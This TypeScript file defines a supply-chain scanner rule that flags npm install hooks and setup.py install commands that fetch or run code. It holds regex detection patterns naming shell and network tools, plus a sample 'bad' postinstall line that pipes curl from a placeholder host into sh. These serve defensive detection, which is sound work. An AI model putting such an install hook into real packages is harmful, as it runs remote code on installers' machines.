import type { Finding, Rule } from './rule.js';

// `prepare` is excluded: it runs at publish time and on installs from a repository, not from the registry.
const installHooks = ['preinstall', 'install', 'postinstall'];
const suspiciousCommand =
  /\b(?:curl|wget|nc|bash -c|powershell|Invoke-WebRequest|base64|eval|xxd)\b|https?:\/\/|python\d?\s+-c|\/dev\/tcp|\$\(|\|\s*sh\b/i;
/** An inline script is classified by its code: setting a file mode is harmless, fetching is not. */
const inlineScript = /node\s+(?:-e|--eval)\s+("|')([\s\S]*)\1/;
const suspiciousCode =
  /https?|fetch\(|child_process|exec|spawn|eval|Function|Buffer\.from|atob|net\b|process\.env|homedir/;
const isSuspicious = (command: string): boolean =>
  suspiciousCommand.test(command) || suspiciousCode.test(inlineScript.exec(command)?.[2] ?? '');
const customInstallCommand = /cmdclass|class\s+\w+\((?:install|develop|egg_info|build_py)\)/;
const setupSideEffects = /os\.system\(|subprocess\.|urlopen\(|requests\.|exec\(|eval\(|socket\./;

/** Finds code that runs at install time, before any review. */
export const installScripts: Rule = {
  id: 'TG-INSTALL-SCRIPT',
  title: 'A package runs commands at install time',
  severity: 'high',
  cwe: [506, 829],
  owasp: ['MCP04:2025 Software Supply Chain Attacks and Dependency Tampering'],
  safeMcp: ['SAFE-T1002'],
  why: 'An install script runs with the permissions of the installing user, before the server itself is checked.',
  fix: 'Do the work at build time, or at first start where the user can see it.',
  cases: [
    {
      language: 'json',
      bad: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://get.example.com/x | sh" } }\n',
      good: '{ "name": "demo-mcp", "version": "1.0.0", "scripts": { "build": "tsc" } }\n',
    },
  ],
  find: (context) =>
    [...context.texts].flatMap(([path, text]) =>
      path.endsWith('package.json')
        ? manifestFindings(path, text)
        : path.endsWith('setup.py')
          ? setupFindings(path, text)
          : [],
    ),
};

const lineLocation = (file: string, text: string, offset: number) => {
  const line = text.slice(0, Math.max(0, offset)).split('\n').length;
  return { file, startLine: line, startColumn: 1, endLine: line, endColumn: 1 };
};

function manifestFindings(path: string, text: string): Finding[] {
  let scripts: unknown;
  try {
    const data: unknown = JSON.parse(text);
    scripts = typeof data === 'object' && data !== null && 'scripts' in data ? data.scripts : undefined;
  } catch {
    return [];
  }
  if (typeof scripts !== 'object' || scripts === null) return [];
  return Object.entries(scripts).flatMap(([name, command]): Finding[] => {
    if (!installHooks.includes(name) || typeof command !== 'string') return [];
    if (isSuspicious(command))
      return [
        {
          rule: installScripts.id,
          kind: 'bug',
          severity: 'high',
          message: `The ${name} script fetches or evaluates code: ${command.slice(0, 160)}`,
          location: lineLocation(path, text, text.indexOf(`"${name}"`)),
        },
      ];
    if (
      /^(?:husky|patch-package|node-gyp|prebuild-install|is-ci|exit 0|echo\b|tsc|npm run build|opencollective)/.test(
        command.trim(),
      )
    )
      return [];
    return [
      {
        rule: installScripts.id,
        kind: 'bug',
        severity: 'low',
        message: `The package runs ${command.slice(0, 160)} at install time`,
        location: lineLocation(path, text, text.indexOf(`"${name}"`)),
      },
    ];
  });
}

function setupFindings(path: string, text: string): Finding[] {
  const found = setupSideEffects.exec(text);
  if (!found || !customInstallCommand.test(text)) return [];
  return [
    {
      rule: installScripts.id,
      kind: 'bug',
      severity: 'high',
      message: 'The setup script runs programs or accesses the network at install time',
      location: lineLocation(path, text, found.index),
    },
  ];
}
